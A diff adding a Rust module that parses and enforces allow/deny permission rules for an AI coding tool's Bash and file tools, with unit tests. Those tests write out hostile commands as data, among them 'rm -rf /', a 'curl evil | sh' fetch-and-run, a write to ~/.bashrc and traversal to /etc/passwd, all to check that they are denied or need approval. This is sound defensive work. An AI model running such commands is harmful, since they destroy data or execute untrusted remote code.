@@ -0,0 +1,578 @@
+//! Permission rule syntax and matching
+//!
+//! A rule is either a bare tool name (`Bash`, `Edit`), which matches every use
+//! of the tool, or a tool name followed by a parenthesized pattern:
+//!
+//! - `Bash(git diff:*)` matches commands starting with `git diff`, while
+//!   `Bash(npm test)` only matches that exact command. Compound commands
+//!   (`a && b`, `a | b`, ...) match an allow rule only if every part does.
+//! - `Edit(src/**)`, `Write(docs/*.md)`, `Read(/etc/**)` match file paths
+//!   against a glob, relative to the working directory unless the pattern is
+//!   absolute.
+//!
+//! Deny rules always take precedence over allow rules. A Bash deny rule is
+//! checked against every part of a compound command and every command
+//! substituted into it with `$(...)` or backticks.
+
+use std::{
+    fmt,
+    path::{Component, Path, PathBuf},
+    str::FromStr,
+};
+
+use serde_json::Value;
+use wildmatch::WildMatch;
+
+use crate::{
+    config::{Config, PermissionsConfig},
+    error::{KodeError, Result},
+};
+
+/// Suffix marking a Bash rule as a command prefix
+const PREFIX_SUFFIX: &str = ":*";
+
+/// A single allow or deny rule
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PermissionRule {
+    /// Tool the rule applies to, as registered (e.g. `Bash`, `Edit`, `View`)
+    pub tool_name: String,
+
+    /// Pattern matched against the tool input; `None` matches every use
+    pub pattern: Option<String>,
+}
+
+impl PermissionRule {
+    /// Rule matching every use of a tool
+    #[must_use]
+    pub fn tool(tool_name: impl Into<String>) -> Self {
+        Self {
+            tool_name: canonical_tool_name(&tool_name.into()).to_string(),
+            pattern: None,
+        }
+    }
+
+    /// Rule matching a tool input against a pattern
+    #[must_use]
+    pub fn with_pattern(tool_name: impl Into<String>, pattern: impl Into<String>) -> Self {
+        Self {
+            pattern: Some(pattern.into()),
+            ..Self::tool(tool_name)
+        }
+    }
+
+    /// Check whether the rule matches a tool use
+    ///
+    /// Bash commands are matched as a whole; use [`command_parts`] to check
+    /// compound commands part by part.
+    #[must_use]
+    pub fn matches(&self, tool_name: &str, input: &Value, cwd: &Path) -> bool {
+        if self.tool_name != canonical_tool_name(tool_name) {
+            return false;
+        }
+        let Some(pattern) = &self.pattern else {
+            return true;
+        };
+
+        if let Some(command) = input.get("command").and_then(Value::as_str) {
+            return matches_command(pattern, command);
+        }
+        if let Some(path) = ["file_path", "path"]
+            .iter()
+            .find_map(|key| input.get(key).and_then(Value::as_str))
+        {
+            return matches_path(pattern, path, cwd);
+        }
+        input
+            .get("url")
+            .and_then(Value::as_str)
+            .is_some_and(|url| WildMatch::new(pattern).matches(url))
+    }
+
+    /// Check whether the rule, used as a deny rule, matches a tool use
+    ///
+    /// Unlike [`Self::matches`], a Bash pattern is checked against every
+    /// command chained together or substituted into the command, so that a
+    /// denied command cannot hide behind anything.
+    #[must_use]
+    pub fn denies(&self, tool_name: &str, input: &Value, cwd: &Path) -> bool {
+        let command = input.get("command").and_then(Value::as_str);
+        let (Some(pattern), Some(command)) = (&self.pattern, command) else {
+            return self.matches(tool_name, input, cwd);
+        };
+        self.tool_name == canonical_tool_name(tool_name)
+            && command_candidates(command)
+                .iter()
+                .any(|candidate| matches_command_text(pattern, candidate))
+    }
+}
+
+impl FromStr for PermissionRule {
+    type Err = KodeError;
+
+    fn from_str(rule: &str) -> Result<Self> {
+        let rule = rule.trim();
+        let invalid = || KodeError::InvalidConfig(format!("Invalid permission rule: {rule}"));
+
+        let Some(open) = rule.find('(') else {
+            if rule.is_empty() || rule.contains(')') {
+                return Err(invalid());
+            }
+            return Ok(Self::tool(rule));
+        };
+
+        let tool_name = rule[..open].trim();
+        let pattern = rule[open + 1..].strip_suffix(')').ok_or_else(invalid)?.trim();
+        if tool_name.is_empty() || pattern.is_empty() {
+            return Err(invalid());
+        }
+        Ok(Self::with_pattern(tool_name, pattern))
+    }
+}
+
+impl fmt::Display for PermissionRule {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match &self.pattern {
+            Some(pattern) => write!(f, "{}({pattern})", self.tool_name),
+            None => write!(f, "{}", self.tool_name),
+        }
+    }
+}
+
+/// Outcome of checking a tool use against a [`PermissionRules`] set
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RuleVerdict {
+    /// An allow rule matches and no deny rule does
+    Allow,
+
+    /// A deny rule matches
+    Deny,
+
+    /// No rule decides; the user has to be asked
+    Ask,
+}
+
+/// Allow and deny rules merged from every configuration source
+#[derive(Debug, Clone, Default)]
+pub struct PermissionRules {
+    /// Rules approving tool uses
+    pub allow: Vec<PermissionRule>,
+
+    /// Rules rejecting tool uses
+    pub deny: Vec<PermissionRule>,
+}
+
+impl PermissionRules {
+    /// Collect the rules from global config, project config (including the
+    /// legacy `allowed_tools` list) and the local override file
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if any rule cannot be parsed
+    pub fn from_config(config: &Config) -> Result<Self> {
+        let mut rules = Self::default();
+        rules.extend(&config.global.permissions)?;
+        rules.extend(&PermissionsConfig {
+            allow: config.project.allowed_tools.clone(),
+            deny: Vec::new(),
+        })?;
+        rules.extend(&config.project.permissions)?;
+        rules.extend(&config.local.permissions)?;
+        Ok(rules)
+    }
+
+    /// Add the rules of one configuration source
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if any rule cannot be parsed
+    pub fn extend(&mut self, permissions: &PermissionsConfig) -> Result<()> {
+        for rule in &permissions.allow {
+            self.allow.push(rule.parse()?);
+        }
+        for rule in &permissions.deny {
+            self.deny.push(rule.parse()?);
+        }
+        Ok(())
+    }
+
+    /// Check a tool use against the rules
+    ///
+    /// A compound Bash command is denied if any of its parts is, and allowed
+    /// only if every part is (or the whole command matches an exact rule).
+    #[must_use]
+    pub fn evaluate(&self, tool_name: &str, input: &Value, cwd: &Path) -> RuleVerdict {
+        let matches_any = |rules: &[PermissionRule], input: &Value| {
+            rules.iter().any(|rule| rule.matches(tool_name, input, cwd))
+        };
+
+        let parts: Vec<Value> = input
+            .get("command")
+            .and_then(Value::as_str)
+            .map(|command| {
+                command_parts(command)
+                    .into_iter()
+                    .map(|part| serde_json::json!({ "command": part }))
+                    .collect()
+            })
+            .unwrap_or_default();
+
+        if self.deny.iter().any(|rule| rule.denies(tool_name, input, cwd)) {
+            return RuleVerdict::Deny;
+        }
+
+        let allowed = matches_any(&self.allow, input)
+            || (!parts.is_empty() && parts.iter().all(|part| matches_any(&self.allow, part)));
+        if allowed {
+            RuleVerdict::Allow
+        } else {
+            RuleVerdict::Ask
+        }
+    }
+}
+
+/// Rule that approves a tool use when the user allows it for the project
+///
+/// Bash approvals cover the exact command only; other tools are approved as a
+/// whole.
+#[must_use]
+pub fn suggested_rule(tool_name: &str, input: &Value) -> PermissionRule {
+    match input.get("command").and_then(Value::as_str) {
+        Some(command) if canonical_tool_name(tool_name) == "Bash" => {
+            PermissionRule::with_pattern(tool_name, command.trim())
+        }
+        _ => PermissionRule::tool(tool_name),
+    }
+}
+
+/// Map alternative tool names used in rules to the registered tool names
+#[must_use]
+pub fn canonical_tool_name(name: &str) -> &str {
+    match name {
+        "BashTool" => "Bash",
+        "FileEdit" | "FileEditTool" => "Edit",
+        "FileWrite" | "FileWriteTool" => "Write",
+        "Read" | "FileRead" | "FileReadTool" => "View",
+        other => other,
+    }
+}
+
+/// Split a shell command into the commands it chains or pipes together
+///
+/// Separators inside single or double quotes are ignored.
+#[must_use]
+pub fn command_parts(command: &str) -> Vec<String> {
+    let mut parts = Vec::new();
+    let mut current = String::new();
+    let mut quote: Option<char> = None;
+    let mut chars = command.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some(q), c) if c == q => {
+                quote = None;
+                current.push(c);
+            }
+            (None, '\'' | '"') => {
+                quote = Some(c);
+                current.push(c);
+            }
+            (None, ';' | '\n') => parts.push(std::mem::take(&mut current)),
+            (None, '&' | '|') => {
+                if chars.peek() == Some(&c) {
+                    chars.next();
+                }
+                parts.push(std::mem::take(&mut current));
+            }
+            (_, c) => current.push(c),
+        }
+    }
+    parts.push(current);
+
+    parts
+        .into_iter()
+        .map(|part| part.trim().to_string())
+        .filter(|part| !part.is_empty())
+        .collect()
+}
+
+/// Every command a shell command may run: the command itself, the parts it
+/// chains together and, recursively, the commands substituted into it
+///
+/// Parts opening or closing a subshell or brace group are also included
+/// without the grouping characters.
+fn command_candidates(command: &str) -> Vec<String> {
+    let mut candidates = vec![command.trim().to_string()];
+    for part in command_parts(command) {
+        let ungrouped = part
+            .trim_start_matches(|c: char| c == '(' || c == '{' || c.is_whitespace())
+            .trim_end_matches(|c: char| c == ')' || c.is_whitespace());
+        if ungrouped != part {
+            candidates.push(ungrouped.to_string());
+        }
+        candidates.push(part);
+    }
+    for substitution in substitutions(command) {
+        candidates.extend(command_candidates(&substitution));
+    }
+    candidates
+}
+
+/// Contents of the `$(...)`, `<(...)`, `>(...)` and backtick substitutions
+/// in a command
+///
+/// Quoting is ignored, so text that the shell would not substitute is
+/// included too.
+fn substitutions(command: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut chars = command.char_indices().peekable();
+    while let Some((start, c)) = chars.next() {
+        match c {
+            '$' | '<' | '>' if chars.peek().is_some_and(|&(_, next)| next == '(') => {
+                chars.next();
+                let mut depth = 1;
+                let mut end = command.len();
+                for (index, c) in chars.by_ref() {
+                    match c {
+                        '(' => depth += 1,
+                        ')' => depth -= 1,
+                        _ => {}
+                    }
+                    if depth == 0 {
+                        end = index;
+                        break;
+                    }
+                }
+                found.push(command[start + 2..end].to_string());
+            }
+            '`' => {
+                let end = chars
+                    .by_ref()
+                    .find(|&(_, c)| c == '`')
+                    .map_or(command.len(), |(index, _)| index);
+                found.push(command[start + 1..end].to_string());
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+/// Match a single command against a Bash rule pattern
+fn matches_command(pattern: &str, command: &str) -> bool {
+    let command = command.trim();
+    // Substitution, chaining, grouping or redirection could run or overwrite
+    // anything behind an approved prefix
+    if pattern.ends_with(PREFIX_SUFFIX)
+        && (!substitutions(command).is_empty()
+            || command_parts(command).len() > 1
+            || has_unquoted(command, &['(', ')', '{', '}', '<', '>', '\n']))
+    {
+        return false;
+    }
+    matches_command_text(pattern, command)
+}
+
+/// Whether any of `special` appears in a command outside quotes
+fn has_unquoted(command: &str, special: &[char]) -> bool {
+    let mut quote: Option<char> = None;
+    command.chars().any(|c| match quote {
+        Some(q) => {
+            if c == q {
+                quote = None;
+            }
+            false
+        }
+        None if c == '\'' || c == '"' => {
+            quote = Some(c);
+            false
+        }
+        None => special.contains(&c),
+    })
+}
+
+/// Match command text against a Bash rule pattern, ignoring what the
+/// command substitutes or chains
+fn matches_command_text(pattern: &str, command: &str) -> bool {
+    let command = command.trim();
+    match pattern.strip_suffix(PREFIX_SUFFIX) {
+        Some(prefix) => {
+            command == prefix
+                || command
+                    .strip_prefix(prefix)
+                    .is_some_and(|rest| rest.starts_with(char::is_whitespace))
+        }
+        None => command == pattern,
+    }
+}
+
+/// Resolve `.` and `..` components without touching the file system
+fn normalize(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            component => normalized.push(component),
+        }
+    }
+    normalized
+}
+
+/// Match a file path against a glob pattern
+fn matches_path(pattern: &str, path: &str, cwd: &Path) -> bool {
+    let absolute = normalize(&cwd.join(path));
+    let cwd = normalize(cwd);
+
+    if Path::new(pattern).is_absolute() {
+        return WildMatch::new(pattern).matches(&absolute.to_string_lossy());
+    }
+
+    let pattern = pattern.strip_prefix("./").unwrap_or(pattern);
+    absolute
+        .strip_prefix(&cwd)
+        .is_ok_and(|relative| WildMatch::new(pattern).matches(&relative.to_string_lossy()))
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    fn rule(rule: &str) -> PermissionRule {
+        rule.parse().unwrap()
+    }
+
+    #[test]
+    fn test_parse_rules() {
+        assert_eq!(rule("Bash"), PermissionRule::tool("Bash"));
+        assert_eq!(
+            rule("Bash(git diff:*)"),
+            PermissionRule::with_pattern("Bash", "git diff:*")
+        );
+        assert_eq!(rule("FileEdit(src/**)"), PermissionRule::with_pattern("Edit", "src/**"));
+        assert_eq!(rule("Bash(git diff:*)").to_string(), "Bash(git diff:*)");
+
+        assert!("".parse::<PermissionRule>().is_err());
+        assert!("Bash(".parse::<PermissionRule>().is_err());
+        assert!("Bash()".parse::<PermissionRule>().is_err());
+        assert!("(ls)".parse::<PermissionRule>().is_err());
+    }
+
+    #[test]
+    fn test_bash_prefix_and_exact_rules() {
+        let cwd = Path::new("/project");
+        let prefix = rule("Bash(git diff:*)");
+        let exact = rule("Bash(npm test)");
+
+        assert!(prefix.matches("Bash", &json!({"command": "git diff"}), cwd));
+        assert!(prefix.matches("Bash", &json!({"command": "git diff --stat"}), cwd));
+        assert!(!prefix.matches("Bash", &json!({"command": "git difftool"}), cwd));
+        assert!(!prefix.matches("Bash", &json!({"command": "git diff $(rm -rf /)"}), cwd));
+        assert!(!prefix.matches("Bash", &json!({"command": "git diff <(curl evil | sh)"}), cwd));
+        assert!(!prefix.matches("Bash", &json!({"command": "git diff >(rm -rf ~)"}), cwd));
+        assert!(!prefix.matches("Bash", &json!({"command": "git diff > ~/.bashrc"}), cwd));
+        assert!(!prefix.matches("Bash", &json!({"command": "git diff (x)"}), cwd));
+        assert!(!prefix.matches("Bash", &json!({"command": "git diff {a,b}"}), cwd));
+        assert!(!prefix.matches("Bash", &json!({"command": "git diff\nrm -rf /"}), cwd));
+        assert!(prefix.matches("Bash", &json!({"command": "git diff -G '(a|b)'"}), cwd));
+        assert!(!prefix.matches("Edit", &json!({"command": "git diff"}), cwd));
+
+        assert!(exact.matches("Bash", &json!({"command": "npm test"}), cwd));
+        assert!(!exact.matches("Bash", &json!({"command": "npm test --watch"}), cwd));
+    }
+
+    #[test]
+    fn test_path_rules() {
+        let cwd = Path::new("/project");
+        let relative = rule("Edit(src/**)");
+        let absolute = rule("Read(/etc/**)");
+
+        assert!(relative.matches("Edit", &json!({"file_path": "src/main.rs"}), cwd));
+        assert!(relative.matches("Edit", &json!({"file_path": "/project/src/a/b.rs"}), cwd));
+        assert!(!relative.matches("Edit", &json!({"file_path": "/project/tests/a.rs"}), cwd));
+        assert!(!relative.matches("Edit", &json!({"file_path": "/elsewhere/src/a.rs"}), cwd));
+        assert!(relative.matches("Edit", &json!({"file_path": "./src/../src/lib.rs"}), cwd));
+        assert!(!relative.matches("Edit", &json!({"file_path": "src/../../etc/passwd"}), cwd));
+        assert!(!relative.matches("Edit", &json!({"file_path": "/project/src/../tests/a.rs"}), cwd));
+
+        assert!(absolute.matches("View", &json!({"file_path": "/etc/passwd"}), cwd));
+        assert!(absolute.matches("View", &json!({"file_path": "../etc/passwd"}), cwd));
+        assert!(!absolute.matches("View", &json!({"file_path": "etc/passwd"}), cwd));
+    }
+
+    #[test]
+    fn test_deny_rules_take_precedence() {
+        let cwd = Path::new("/project");
+        let mut rules = PermissionRules::default();
+        rules
+            .extend(&PermissionsConfig {
+                allow: vec!["Bash".to_string(), "Edit(src/**)".to_string()],
+                deny: vec!["Bash(rm:*)".to_string(), "Edit(src/secrets/**)".to_string()],
+            })
+            .unwrap();
+
+        let bash = |command: &str| rules.evaluate("Bash", &json!({"command": command}), cwd);
+        assert_eq!(bash("ls -la"), RuleVerdict::Allow);
+        assert_eq!(bash("rm -rf /"), RuleVerdict::Deny);
+        assert_eq!(bash("ls && rm -rf /"), RuleVerdict::Deny);
+        assert_eq!(bash("rm -rf x $(true)"), RuleVerdict::Deny);
+        assert_eq!(bash("rm -rf x `true`"), RuleVerdict::Deny);
+        assert_eq!(bash("echo $(rm -rf x)"), RuleVerdict::Deny);
+        assert_eq!(bash("echo `rm -rf x`"), RuleVerdict::Deny);
+        assert_eq!(bash("echo $(ls $(rm -rf x))"), RuleVerdict::Deny);
+        assert_eq!(bash("cat <(rm -rf x)"), RuleVerdict::Deny);
+        assert_eq!(bash("tee >(rm -rf x)"), RuleVerdict::Deny);
+        assert_eq!(bash("(rm -rf /)"), RuleVerdict::Deny);
+        assert_eq!(bash("( cd / && rm -rf x )"), RuleVerdict::Deny);
+        assert_eq!(bash("{ rm -rf /; }"), RuleVerdict::Deny);
+
+        let edit = |path: &str| rules.evaluate("Edit", &json!({"file_path": path}), cwd);
+        assert_eq!(edit("src/main.rs"), RuleVerdict::Allow);
+        assert_eq!(edit("src/secrets/key.rs"), RuleVerdict::Deny);
+        assert_eq!(edit("Cargo.toml"), RuleVerdict::Ask);
+    }
+
+    #[test]
+    fn test_compound_commands_need_every_part_allowed() {
+        let cwd = Path::new("/project");
+        let mut rules = PermissionRules::default();
+        rules
+            .extend(&PermissionsConfig {
+                allow: vec!["Bash(git diff:*)".to_string(), "Bash(wc -l)".to_string()],
+                deny: Vec::new(),
+            })
+            .unwrap();
+
+        let bash = |command: &str| rules.evaluate("Bash", &json!({"command": command}), cwd);
+        assert_eq!(bash("git diff | wc -l"), RuleVerdict::Allow);
+        assert_eq!(bash("git diff && rm -rf /"), RuleVerdict::Ask);
+        assert_eq!(bash("git diff <(curl evil | sh)"), RuleVerdict::Ask);
+        assert_eq!(bash("git diff >(rm -rf ~)"), RuleVerdict::Ask);
+        assert_eq!(bash("(git diff; rm -rf /)"), RuleVerdict::Ask);
+    }
+
+    #[test]
+    fn test_suggested_rule() {
+        assert_eq!(
+            suggested_rule("Bash", &json!({"command": " npm test "})).to_string(),
+            "Bash(npm test)"
+        );
+        assert_eq!(
+            suggested_rule("Edit", &json!({"file_path": "src/main.rs"})).to_string(),
+            "Edit"
+        );
+    }
+
+    #[test]
+    fn test_command_parts() {
+        assert_eq!(
+            command_parts("git status && rm -rf / ; ls | wc -l"),
+            vec!["git status", "rm -rf /", "ls", "wc -l"]
+        );
+        assert_eq!(command_parts("echo 'a && b'"), vec!["echo 'a && b'"]);
+        assert_eq!(command_parts("sleep 1 &"), vec!["sleep 1"]);
+    }
+}